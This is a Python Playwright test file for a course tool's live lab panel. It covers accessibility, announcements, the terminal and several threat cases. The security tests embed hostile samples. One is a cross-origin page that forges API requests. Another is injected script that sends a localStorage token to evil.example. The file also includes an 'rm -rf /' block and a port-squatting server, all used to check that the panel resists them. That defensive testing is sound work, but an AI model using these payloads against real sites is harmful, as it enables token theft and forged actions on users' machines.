"""The live page: what it shows and says, its keyboard, and that it stays plain where no service is behind it."""

from __future__ import annotations

import re
import threading
import time
from functools import partial
from http.server import BaseHTTPRequestHandler, SimpleHTTPRequestHandler, ThreadingHTTPServer
from typing import TYPE_CHECKING, Any

import pytest
from axe_playwright_python.sync_playwright import Axe
from playwright.sync_api import expect

from checker.live.files import MARK
from checker.live.state import Phase
from checker.results import Status
from tests.browser.live.stage import Stage, set_up

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

    from playwright.sync_api import Browser, BrowserContext, Page

    from tests.browser.watching import Site

expect.set_options(timeout=20_000)
LESSON = "lessons/01-first-container/"
LISTEN = """() => { window.said = []; new MutationObserver(() => { const text = document.getElementById(
 'dock-announcer').textContent; if (text) window.said.push(text); }).observe(document.getElementById('dock-announcer'),
 {childList: true, characterData: true, subtree: true}); }"""


@pytest.fixture
def stage(site: Site, tmp_path: Any, monkeypatch: pytest.MonkeyPatch) -> Iterator[Stage]:
    """The service with a lab that the test plays."""
    monkeypatch.setenv("DRYDOCK_STATE", str(tmp_path / "state"))
    monkeypatch.setenv("DRYDOCK_WORK", str(tmp_path / "work"))
    assert site.folder
    found = set_up(site.folder)
    yield found
    found.stop()


@pytest.fixture
def new(browser: Browser) -> Iterator[Callable[..., BrowserContext]]:
    """Return what opens a browser without history; at the end no page may have had an error."""
    made: list[BrowserContext] = []
    errors: list[str] = []

    def open_context(**options: Any) -> BrowserContext:
        context = browser.new_context(**{"viewport": {"width": 1280, "height": 900}, **options})
        context.on("page", lambda page: page.on("pageerror", lambda error: errors.append(str(error))))
        made.append(context)
        return context

    yield open_context
    for context in made:
        context.close()
    assert errors == []


def opened(stage: Stage, new: Callable[..., BrowserContext], **options: Any) -> Page:
    page = new(**options).new_page()
    page.goto(stage.address(), wait_until="load")
    expect(page.locator(".dock-rail")).to_be_visible()
    expect(page.locator("html[data-dock-live=open]")).to_be_attached()
    return page


def test_a_first_question_that_is_lost_is_asked_again(
    stage: Stage, new: Callable[..., BrowserContext]
) -> None:
    context = new()
    lost: list[str] = []

    def lose_one(route: Any) -> None:
        if lost:
            route.fallback()
        else:
            lost.append(route.request.url)
            route.abort()

    context.route("**/api/v1/labs/*/blocks", lose_one)
    page = context.new_page()
    page.goto(stage.address(), wait_until="load")
    expect(page.locator(".dock-run").first).to_be_visible(timeout=20_000)
    assert lost


# -- what it shows and says --------------------------------------------------------------------------------------


def test_a_state_is_told_by_word_and_shape_and_the_first_failure_with_its_evidence(
    stage: Stage, new: Callable[..., BrowserContext]
) -> None:
    stage.phase(Phase.READY)
    stage.show(1)
    page = opened(stage, new)
    rows = page.get_by_role("list", name="Checks").get_by_role("listitem")
    expect(rows).to_have_text(
        ["✔Passed: One runs", "✘Failed: It answers on port 8081", "–Waits: It has a name", "–Waits: It stays"]
    )
    expect(page.locator(".dock-count")).to_have_text("1 of 4")
    first = page.locator(".dock-first")
    for text in (
        "Nobody answers on port 8081.",
        "HTTP 200",
        "connection refused",
        "curl: (7) Failed to connect",
    ):
        expect(first).to_contain_text(text)
    assert "\x1b" not in first.inner_text()
    stage.show(2, status=Status.COULD_NOT_RUN)
    expect(rows.nth(2)).to_contain_text("▲Could not run: It has a name")


def test_what_waits_for_the_button_says_so_and_what_it_said_when_it_was_pressed_is_marked(
    stage: Stage, new: Callable[..., BrowserContext]
) -> None:
    stage.phase(Phase.READY)
    stage.show(3)
    page = opened(stage, new)
    last = page.get_by_role("list", name="Checks").get_by_role("listitem").last
    expect(page.locator(".dock-first .dock-reason")).to_have_text("Nobody answers on port 8081.")
    stage.look(3)
    # The learner had pressed Check, and nobody has since.
    expect(page.locator(".dock-first .dock-reason")).to_have_text(
        "When you last pressed Check: Nobody answers on port 8081."
    )
    stage.show(4)
    expect(last).to_have_text("✔Passed: It stays")
    stage.look(3)
    expect(last).to_have_text("–Waits: It staysruns only when you ask for a check: it kills a node")
    expect(page.locator("#dock-announcer")).to_have_text(
        "Lab 1: 3 of 4 checks pass. 1 waits for the button Check."
    )
    expect(page.locator(".dock-first")).to_be_hidden()


def test_announcements_are_these_sentences_and_the_focus_stays(
    stage: Stage, new: Callable[..., BrowserContext]
) -> None:
    stage.phase(Phase.READY)
    stage.show(0)
    page = opened(stage, new)
    place = page.locator("#dock-announcer")
    expect(place).to_have_attribute("role", "status")
    check = page.get_by_role("button", name="Check", exact=True)
    check.focus()
    page.keyboard.press("Enter")
    # A check that was pressed always speaks, even if nothing has changed.
    expect(place).to_have_text("Lab 1: 0 of 4 checks pass. Failed: One runs.")
    expect(check).to_be_focused()
    stage.show(3)
    expect(place).to_have_text("Lab 1: 3 of 4 checks pass. Failed: It stays.")
    stage.show(4)
    expect(place).to_have_text("Lab 1: all 4 checks pass.")
    stage.show(2, status=Status.COULD_NOT_RUN)
    expect(place).to_have_text("Lab 1: 2 of 4 checks pass. Could not run: It has a name.")
    expect(check).to_be_focused()


def test_fifty_flips_in_a_second_are_at_most_two_announcements_and_the_last_state_wins(
    stage: Stage, new: Callable[..., BrowserContext]
) -> None:
    stage.phase(Phase.READY)
    stage.show(0)
    page = opened(stage, new)
    page.evaluate(LISTEN)
    for number in range(50):
        stage.show(number % 2 + 1)
        page.wait_for_timeout(15)
    stage.show(3)
    expect(page.locator("#dock-announcer")).to_have_text("Lab 1: 3 of 4 checks pass. Failed: It stays.")
    assert len(page.evaluate("window.said")) <= 3  # two in the second, and the last state
    expect(page.locator(".dock-count")).to_have_text("3 of 4")


@pytest.mark.parametrize("waited", ["/api/v1/events", "/api/v1/labs/01/blocks"])
def test_what_is_known_is_shown_before_the_page_hears_of_changes_or_knows_its_commands(
    stage: Stage, new: Callable[..., BrowserContext], waited: str
) -> None:
    stage.phase(Phase.READY)
    stage.show(1)
    page = new().new_page()
    # A request that is neither answered nor refused.
    page.route(re.compile(waited), lambda _: None)
    page.goto(stage.address(), wait_until="commit")
    expect(page.locator(".dock-count")).to_have_text("1 of 4")


def test_the_page_is_complete_before_and_without_the_script(
    stage: Stage, new: Callable[..., BrowserContext]
) -> None:
    page = new(java_script_enabled=False).new_page()
    page.goto(stage.url + LESSON)
    expect(page.locator("#dock-announcer")).to_have_text("")
    expect(page.locator("article")).to_contain_text("lab check 1")
    assert page.locator(".dock-rail, .dock-run").count() == 0


def test_without_a_code_the_page_says_how_it_becomes_live_and_a_code_is_good_once(
    stage: Stage, new: Callable[..., BrowserContext]
) -> None:
    page = new().new_page()
    page.goto(stage.url + LESSON)
    expect(page.get_by_label("The live page")).to_contain_text("Type lab open 1 in your own terminal")
    address = stage.address()
    other = new().new_page()
    other.goto(address)
    expect(other.locator(".dock-rail")).to_be_visible()
    assert other.url == stage.url + LESSON
    late = new().new_page()
    late.goto(address)
    expect(late.get_by_label("The live page")).to_contain_text("was used before")
    # T6: neither is in the history, nor in what another server sees of where the reader came from.
    assert other.evaluate("history.length") <= 2
    assert "#" not in other.evaluate("location.href")
    # A page that is loaded again, or another tab, is let in by what the first one got.
    other.reload()
    expect(other.locator(".dock-rail")).to_be_visible()


# -- the terminal ------------------------------------------------------------------------------------------------


def test_the_terminal_is_no_keyboard_trap(stage: Stage, new: Callable[..., BrowserContext]) -> None:
    stage.phase(Phase.READY)
    page = opened(stage, new)
    toggle = page.get_by_role("button", name="Terminal", exact=True)
    toggle.click()
    group = page.get_by_role("group", name="Terminal of lab 1")
    expect(page.locator(".xterm-rows")).to_contain_text("$")
    page.keyboard.press("Control+Shift+L")
    expect(group).to_be_focused()
    # Passing by: one stop, and on.
    page.keyboard.press("Tab")
    assert page.evaluate("document.activeElement.type") == "checkbox"
    page.keyboard.press("Shift+Tab")
    expect(group).to_be_focused()
    assert stage.terminal.got == b""
    # In, type, Escape and Tab belong to the shell, out, on.
    page.keyboard.press("Enter")
    page.keyboard.type("ls")
    page.keyboard.press("Tab")
    page.keyboard.press("Escape")
    page.keyboard.press("Control+Shift+L")
    expect(group).to_be_focused()
    page.keyboard.press("Tab")
    assert page.evaluate("document.activeElement.type") == "checkbox"
    assert stage.terminal.got == b"ls\t\x1b"


def test_a_second_tab_takes_the_terminal_over_and_the_first_says_so(
    stage: Stage, new: Callable[..., BrowserContext]
) -> None:
    stage.phase(Phase.READY)
    first = opened(stage, new)
    first.get_by_role("button", name="Terminal", exact=True).click()
    expect(first.locator(".xterm-rows")).to_contain_text("$")
    stage.terminal.write(b"what was there before\r\n$ ")
    second = first.context.new_page()
    second.goto(stage.url + LESSON)
    second.get_by_role("button", name="Terminal", exact=True).click()
    expect(second.locator(".xterm-rows")).to_contain_text("what was there before")
    expect(first.locator(".dock-terminal-status")).to_have_text("Another tab has taken this terminal over.")
    first.get_by_role("button", name="Open it again").click()
    expect(second.locator(".dock-terminal-status")).to_have_text("Another tab has taken this terminal over.")
    expect(first.locator(".dock-terminal-status")).to_be_empty()


def test_wide_characters_and_bytes_that_are_cut_in_two_are_shown_whole(
    stage: Stage, new: Callable[..., BrowserContext]
) -> None:
    stage.phase(Phase.READY)
    page = opened(stage, new)
    page.get_by_role("button", name="Terminal", exact=True).click()
    expect(page.locator(".xterm-rows")).to_contain_text("$")
    for byte in "héllo 容器 🚢\r\n".encode():
        stage.terminal.write(bytes([byte]))
    expect(page.locator(".xterm-rows")).to_contain_text("héllo 容器 🚢")


# -- for everyone ------------------------------------------------------------------------------------------------


def _plain(page: Page, stage: Stage) -> None:
    stage.phase(Phase.ABSENT)
    expect(page.locator(".dock-phase")).to_contain_text("Not started")


def _running(page: Page, stage: Stage) -> None:
    stage.phase(Phase.READY)
    stage.watch.set_op({"op": "o", "kind": "check", "state": "running", "reason": ""})
    expect(page.get_by_role("button", name="Checking…")).to_have_attribute("aria-disabled", "true")


def _shown(passed: int, status: Status = Status.FAILED) -> Callable[[Page, Stage], None]:
    def play(page: Page, stage: Stage) -> None:
        stage.phase(Phase.READY)
        stage.show(passed, status=status)
        expect(page.locator(".dock-count")).to_have_text(f"{passed} of 4")

    return play


def _offline(page: Page, stage: Stage) -> None:
    _shown(1)(page, stage)
    stage.stop()
    expect(page.locator(".dock-lost")).to_contain_text("Not live since", timeout=40_000)


def _terminal(page: Page, stage: Stage, *, inside: bool) -> None:
    stage.phase(Phase.READY)
    page.get_by_role("button", name="Terminal", exact=True).click()
    expect(page.locator(".xterm-rows")).to_contain_text("$")
    if not inside:
        page.keyboard.press("Control+Shift+L")


def _hint(page: Page, stage: Stage) -> None:
    _shown(1)(page, stage)
    stage.service.hub.publish(
        "hint", lab="01", id="check-1", title="T", text="Think of ports.", rung=1, rungs=3
    )
    expect(page.get_by_role("list", name="Hints")).to_contain_text("Think of ports.")


def _sure(page: Page, stage: Stage) -> None:
    stage.phase(Phase.READY)
    page.get_by_role("button", name="Reset…").click()


STATES: dict[str, Callable[[Page, Stage], None]] = {
    "not started": _plain,
    "running": _running,
    "pass": _shown(4),
    "fail": _shown(1),
    "error": _shown(1, Status.COULD_NOT_RUN),
    "offline": _offline,
    "terminal in": partial(_terminal, inside=True),
    "terminal out": partial(_terminal, inside=False),
    "hint open": _hint,
    "reset asked": _sure,
}


@pytest.mark.parametrize("state", STATES)
@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_axe_finds_nothing(stage: Stage, new: Callable[..., BrowserContext], state: str, scheme: Any) -> None:
    page = opened(stage, new, color_scheme=scheme, reduced_motion="reduce")
    STATES[state](page, stage)
    found = Axe().run(
        page,
        options={
            "runOnly": {"type": "tag", "values": ["wcag2a", "wcag2aa", "wcag21a", "wcag21aa", "wcag22aa"]}
        },
    )
    assert found.violations_count == 0, found.generate_report()


@pytest.mark.parametrize(("width", "zoom"), [(320, 1), (640, 2), (390, 1)])
def test_a_narrow_page_does_not_scroll_sideways_and_hides_no_focus(
    stage: Stage, new: Callable[..., BrowserContext], width: int, zoom: int
) -> None:
    # A page at 200 % in a window of 640 pixels is laid out in 320.
    page = opened(stage, new, viewport={"width": width // zoom, "height": 640}, device_scale_factor=zoom)
    stage.phase(Phase.READY)
    stage.show(1)
    expect(page.locator(".dock-count")).to_have_text("1 of 4")
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")
    page.locator("article h1").click()
    seen = 0
    for _ in range(60):
        page.keyboard.press("Tab")
        covered = page.evaluate(
            """() => { const e = document.activeElement; if (!e.closest('article')) return null;
            const b = e.getBoundingClientRect(); const x = b.left + Math.min(b.width / 2, 20), y = b.top + b.height / 2;
            const top = document.elementFromPoint(x, y); return top !== null && !e.contains(top) && !top.contains(e)
            && (top.closest('.dock-bar, .md-header') !== null) ? e.outerHTML.slice(0, 200) : false; }"""
        )
        if covered is None:
            continue
        seen += 1
        assert covered is False, covered
    assert seen > 10


def test_every_button_is_at_least_24_pixels_high_and_wide(
    stage: Stage, new: Callable[..., BrowserContext]
) -> None:
    stage.phase(Phase.READY)
    stage.show(1)
    page = opened(stage, new)
    expect(page.locator(".dock-run").first).to_be_visible()
    small = page.evaluate(
        "[...document.querySelectorAll('.dock-button, .dock-run')].filter(e => e.checkVisibility()).map(e => e.getBoundingClientRect())"
        ".filter(b => b.width < 24 || b.height < 24).length"
    )
    assert small == 0


# -- T1, T2, T7: hostile pages -----------------------------------------------------------------------------------

HOSTILE = """<!doctype html><title>x</title><form id=f method=post enctype=text/plain action="URLapi/v1/labs/01/start">
<input name='{"a":"' value='"}'></form><iframe id=i src="URLlessons/01-first-container/"></iframe><script>
window.got = [];
const note = (what) => (value) => window.got.push([what, String(value)]);
fetch('URLapi/v1/state', {credentials: 'include'}).then(r => r.text()).then(note('fetch')).catch(() => {});
fetch('URLapi/v1/labs/01/start', {method: 'POST', mode: 'no-cors', body: '{}'}).catch(() => {});
fetch('URLapi/v1/hello').then(r => r.text()).then(note('hello')).catch(() => {});
const s = new WebSocket('URLapi/v1/term/01'.replace('http', 'ws')); s.onopen = note('socket');
const w = window.open('URLlessons/01-first-container/'); window.onmessage = (e) => note('message')(e.data);
setTimeout(() => { try { note('frame')(document.getElementById('i').contentDocument.body.textContent) } catch {} }, 800);
setTimeout(() => { try { w.postMessage('x', '*'); note('window')(w.document.body.textContent) } catch {} }, 800);
setTimeout(() => { window.over = true }, 1500);
</script>"""


@pytest.fixture
def other(stage: Stage) -> Iterator[str]:
    """A web application on another port of this machine, as a lab has one, that wants to use the service."""

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(HOSTILE.replace("URL", stage.url).encode())

        def log_message(self, format: str, *args: object) -> None:  # noqa: A002
            pass

    with ThreadingHTTPServer(("127.0.0.1", 0), Handler) as served:
        threading.Thread(target=served.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True).start()
        yield f"http://127.0.0.1:{served.server_port}/"
        served.shutdown()


def test_t1_t2_a_page_on_another_port_reads_nothing_and_does_nothing(
    stage: Stage, new: Callable[..., BrowserContext], other: str
) -> None:
    live = opened(stage, new)
    hostile = live.context.new_page()
    hostile.goto(other)
    hostile.wait_for_function("window.over === true", timeout=30_000)
    got = hostile.evaluate("window.got")
    # Of a frame that is refused, only the empty page of the refusal can be read.
    assert [each for each in got if each not in (["frame", ""], ["window", ""])] == []
    hostile.evaluate("document.getElementById('f').submit()")
    hostile.wait_for_load_state()
    assert stage.engine.calls == []
    assert stage.service.operations.running("01-first-container") == ""
    assert live.context.cookies() == []


def test_t7_a_hostile_lesson_that_was_built_all_the_same_makes_no_engine_call_and_asks_nobody(
    stage: Stage, new: Callable[..., BrowserContext], site: Site, tmp_path: Any
) -> None:
    assert site.folder
    html = (site.folder / LESSON / "index.html").read_text()
    harm = """<script>fetch('/api/v1/labs/01/stop',{method:'POST',headers:{'Content-Type':'application/json',
      Authorization:'Bearer '+localStorage['drydock-token']},body:'{}'});new Image().src='http://evil.example/'+localStorage['drydock-token']</script>
      <img src=x onerror="fetch('/api/v1/labs/01/start',{method:'POST'})"><img src="http://evil.example/x.png">
      <div class="highlight"><pre><code>rm -rf /</code></pre></div><div id="dock-announcer"></div><div id="dock-terminal"></div>
      <form id="forged" action="http://evil.example/" method="post"><button>Check</button></form>
      <button data-lab-run="b3" class="dock-run">Run</button>"""
    assert "</h1>" in html
    html = html.replace("</h1>", "</h1>" + harm, 1)
    asked: list[str] = []
    context = new()
    # What the page's policy stops is seen as a request too, but never leaves the browser.
    context.on("requestfinished", lambda request: asked.append(request.url))
    context.on("response", lambda response: asked.append(response.url))

    def evil(route: Any) -> None:
        asked.append(route.request.url)
        route.abort()

    context.route("http://evil.example/**", evil)
    context.route(f"{stage.url}{LESSON}", lambda route: _with_body(route, html))
    page = context.new_page()
    page.goto(stage.address())
    expect(page.locator(".dock-rail")).to_be_visible()
    expect(page.locator(".dock-run-row").first).to_be_visible()
    assert page.locator(".highlight:has-text('rm -rf') .dock-run").count() == 0
    page.evaluate("document.querySelectorAll('button, .dock-run').forEach(each => each.click())")
    page.evaluate("document.getElementById('forged').submit()")
    page.wait_for_timeout(500)
    assert stage.engine.calls == []
    assert [url for url in asked if not url.startswith(stage.url) and not url.startswith("data:")] == []
    assert not [url for url in asked if "/labs/01/" in url and not url.endswith("/blocks")]


def _with_body(route: Any, html: str) -> None:
    answer = route.fetch()
    marked = html.replace("<head>", "<head>" + MARK.decode(), 1)
    # The policy is the one that the service itself gives this page.
    route.fulfill(status=200, headers=answer.headers, body=marked)


# -- T9, T10: no service behind the page -------------------------------------------------------------------------


def _asked(context: BrowserContext) -> list[str]:
    asked: list[str] = []
    context.on("request", lambda request: asked.append(request.url))
    return asked


def _api(asked: list[str]) -> list[str]:
    return [url for url in asked if "/api/" in url]


def test_t9_on_any_other_server_the_page_is_plain_and_asks_for_nothing(
    site: Site, new: Callable[..., BrowserContext]
) -> None:
    context = new()
    asked = _asked(context)
    page = context.new_page()
    page.goto(site.url + LESSON, wait_until="networkidle")
    assert page.locator(".dock-rail, .dock-run, .dock-bar").count() == 0
    assert _api(asked) == []


@pytest.mark.parametrize("answer", ["404", "html", "json", "hangs"])
def test_t9_a_copy_of_a_live_page_on_another_server_asks_once_and_stays_plain(
    site: Site, new: Callable[..., BrowserContext], answer: str
) -> None:
    assert site.folder
    html = (site.folder / LESSON / "index.html").read_text().replace("<head>", "<head>" + MARK.decode(), 1)
    context = new()
    asked = _asked(context)
    context.route(f"{site.url}{LESSON}", lambda route: route.fulfill(body=html, content_type="text/html"))
    answers: dict[str, Callable[[Any], None]] = {
        "404": lambda route: route.fulfill(status=404, body="no"),
        "html": lambda route: route.fulfill(body="<html></html>", content_type="text/html"),
        "json": lambda route: route.fulfill(json={"app": "another", "live": True}),
        "hangs": lambda _: None,
    }
    context.route("**/api/v1/**", answers[answer])
    page = context.new_page()
    with page.expect_request(lambda request: "/api/" in request.url):
        page.goto(site.url + LESSON, wait_until="load")
    page.wait_for_timeout(6000 if answer == "hangs" else 1000)
    assert page.locator(".dock-rail, .dock-run, .dock-bar").count() == 0
    assert len(_api(asked)) == 1


def test_t9_from_a_file_the_page_is_plain(site: Site, browser: Browser) -> None:
    assert site.folder
    # Not by `new`: the theme's own search cannot read its index from a file, and says so as an error.
    context = browser.new_context()
    asked = _asked(context)
    page = context.new_page()
    page.goto((site.folder / LESSON / "index.html").as_uri(), wait_until="load")
    expect(page.locator("article")).to_contain_text("Your first container")
    assert _api(asked) == []
    assert page.locator(".dock-rail").count() == 0
    context.close()


def test_t10_a_public_copy_asks_nothing_of_the_readers_own_machine(
    site: Site, new: Callable[..., BrowserContext]
) -> None:
    assert site.folder
    folder = site.folder
    context = new()
    asked = _asked(context)

    def serve(route: Any) -> None:
        path = route.request.url.removeprefix("http://course.example/").partition("?")[0].partition("#")[0]
        file = folder / path / "index.html" if path == "" or path.endswith("/") else folder / path
        body = file.read_bytes() if file.is_file() else b""
        kinds = {".html": "text/html", ".js": "text/javascript", ".css": "text/css", ".svg": "image/svg+xml"}
        kind = kinds.get(file.suffix, "application/octet-stream")
        route.fulfill(body=body.replace(b"<head>", b"<head>" + MARK, 1), content_type=kind)

    context.route("http://course.example/**", serve)
    page = context.new_page()
    page.goto("http://course.example/" + LESSON + "#c=1.2.3", wait_until="networkidle")
    expect(page.locator("article")).to_contain_text("Your first container")
    assert page.locator(".dock-rail").count() == 0
    assert [url for url in asked if not url.startswith("http://course.example/")] == []
    assert _api(asked) == []


def show(page: Page, *, hidden: bool) -> None:
    """Make the page believe that its tab was hidden, or is shown again."""
    page.evaluate(
        "hidden => { Object.defineProperty(document, 'hidden', { configurable: true, get: () => hidden });"
        " document.dispatchEvent(new Event('visibilitychange')); }",
        hidden,
    )


# -- T9: somebody else on the port later -------------------------------------------------------------------------


@pytest.mark.parametrize("hidden", [False, True], ids=["seen", "hidden meanwhile"])
def test_t9_a_page_that_lost_its_service_does_not_give_the_token_to_who_takes_the_port(
    stage: Stage, new: Callable[..., BrowserContext], *, hidden: bool
) -> None:
    page = opened(stage, new)
    if hidden:
        show(page, hidden=True)
    stage.stop()
    got: list[str] = []

    class Squatter(SimpleHTTPRequestHandler):
        def do_GET(self) -> None:
            got.append(f"{self.path} {self.headers.get('Authorization')}")
            self.send_response(200)
            self.send_header("Content-Type", "application/json")
            self.end_headers()
            self.wfile.write(b'{"app":"drydock","api":1,"live":true,"run":"x","proof":"00"}')

        def log_message(self, format: str, *args: object) -> None:  # noqa: A002
            pass

    ThreadingHTTPServer.allow_reuse_address = True
    deadline = time.monotonic() + 10
    while True:
        try:
            served = ThreadingHTTPServer(("127.0.0.1", stage.port), Squatter)
            break
        except OSError:
            assert time.monotonic() < deadline
    with served:
        threading.Thread(target=served.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True).start()
        if hidden:
            show(page, hidden=False)
        expect(page.locator(".dock-lost")).to_contain_text("Not live since", timeout=40_000)
        served.shutdown()
    assert got
    assert all(line.startswith("/api/v1/hello") and line.endswith(" None") for line in got)
